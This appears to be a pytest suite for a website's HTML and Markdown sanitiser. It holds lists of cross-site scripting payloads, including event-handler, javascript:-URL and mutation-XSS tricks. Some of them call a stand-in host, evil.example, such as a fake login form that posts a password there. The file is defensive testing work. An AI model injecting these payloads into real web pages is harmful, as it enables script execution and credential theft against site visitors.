import re
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from config.markdown import to_html
from config.sanitising import is_local, plain, sanitised

ACTIVE = {
    *("animate", "applet", "audio", "base", "button", "embed", "form", "frame", "iframe", "input"),
    *("isindex", "link", "math", "meta", "noscript", "object", "script", "set", "style", "svg"),
    *("template", "textarea", "title", "video", "xmp"),
}
ADDRESSES = {
    "action",
    "background",
    "cite",
    "data",
    "formaction",
    "href",
    "poster",
    "src",
    "xlink:href",
}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)

PLAIN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="/x.webp" onerror="alert(1)">',
    "<img src=/x.webp/onload=alert(1) onload=alert(1)>",
    "<b/onmouseover=alert(1)>hover</b>",
    '<p OnClick\n=\n"alert(1)">click</p>',
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://glossary.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="javascript:alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></p><img src=/x.webp onerror=alert(1)></mtext></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><script>alert(1)</script>",
]
DISGUISED = [
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<scr<script>ipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: vbscript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](/y.webp "a\\" onerror=alert(1) b=\\"")',
    '[x](/y "a&quot; onclick=alert(1) b=&quot;")',
    "[x](/y){onclick=alert(1) href=javascript:alert(1)}",
    "`x`{style='background:url(//evil.example)' class='\"><script>'}",
    '```"><script>alert(1)</script>\nx\n```',
    '# x {#"onclick=alert(1)}',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
]


def dangers(html: str) -> list[str]:
    """Return what a browser would run, load from elsewhere or submit in `html`."""
    parsed = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for element in parsed.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        found += [tag] * (tag in ACTIVE)
        found += [
            name for name, value in element.attrib.items() if is_dangerous(element, name, value)
        ]
    return found


def is_dangerous(element: Element, name: str, value: str) -> bool:
    # Browsers drop these characters before they look for the scheme.
    address = re.sub(r"[\0- ]", "", value)
    scheme = SCHEME.match(address)
    if name in ADDRESSES and scheme and scheme[1].lower() not in SAFE_SCHEMES:
        return True
    if element.tag == "img" and name == "src":
        return bool(scheme) or address.replace("\\", "/").startswith("//")
    return name.startswith("on") or name in ("style", "srcdoc", "srcset")


@pytest.mark.parametrize("attack", PLAIN)
def test_raw_html_keeps_nothing_that_acts(attack):
    assert dangers(attack) != []
    assert dangers(sanitised(attack)) == dangers(to_html(attack)) == []


@pytest.mark.parametrize("attack", DISGUISED)
def test_disguised_attacks_do_not_act(attack):
    assert dangers(to_html(attack)) == []


@given(st.lists(st.sampled_from(PLAIN + DISGUISED) | st.text(max_size=5)).map("".join), st.data())
@settings(deadline=None, database=None)
def test_torn_and_joined_attacks_do_not_act_either(text, data):
    start = data.draw(st.integers(0, len(text)))
    assert dangers(to_html(text[start:] + text[:start])) == []


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/x.png",
        "//evil.example/x.png",
        "/\\evil.example/x.png",
        "\\\\evil.example/x.png",
        "/\t/evil.example/x.png",
        "https:evil.example/x.png",
        "https://glossary.example.evil.example/x.png",
        "https://glossary.example@evil.example/x.png",
        "https://[broken/x.png",
    ],
)
def test_images_from_elsewhere_are_not_loaded(address):
    assert is_local(address) is False
    assert dangers(sanitised(f'<img src="{address}">')) == []


@pytest.mark.parametrize(
    "address", ["/media/x.webp", "x.webp", "?page=2", "https://glossary.example/x.webp"]
)
def test_images_of_this_site_are_kept(address):
    assert sanitised(f'<img src="{address}">') == f'<img src="{address}">'


def test_structure_and_text_survive():
    fragment = (
        '<figure class="wide"><a href="tel:+351" hreflang="pt" title="t">H<sub>2</sub>O</a>'
        '<figcaption lang="pt"><q>b</q></figcaption></figure>'
        '<table><tbody><tr><th scope="row" colspan="2">c</th></tr></tbody></table>'
        '<details open=""><summary>d</summary>'
        '<ol start="3" reversed=""><li value="9">e</li></ol></details>'
    )
    assert sanitised(fragment) == fragment


def test_each_id_is_kept_once_and_never_one_of_the_page():
    fragment = '<p id="a">1</p><p id="a">2</p><p id="page-main">3</p>'
    assert sanitised(fragment) == '<p id="a">1</p><p>2</p><p>3</p>'


def test_only_scrolling_places_join_the_tab_order():
    fragment = '<div tabindex="0"></div><div tabindex="9"></div><p tabindex="0"></p>'
    assert sanitised(fragment) == '<div tabindex="0"></div><div></div><p></p>'


def test_plain_text_has_neither_tags_nor_scripts():
    assert (
        plain("<p>a &lt; b<script>c()</script><style>d{}</style> &amp; <i>e</i></p>")
        == "a < b & e"
    )
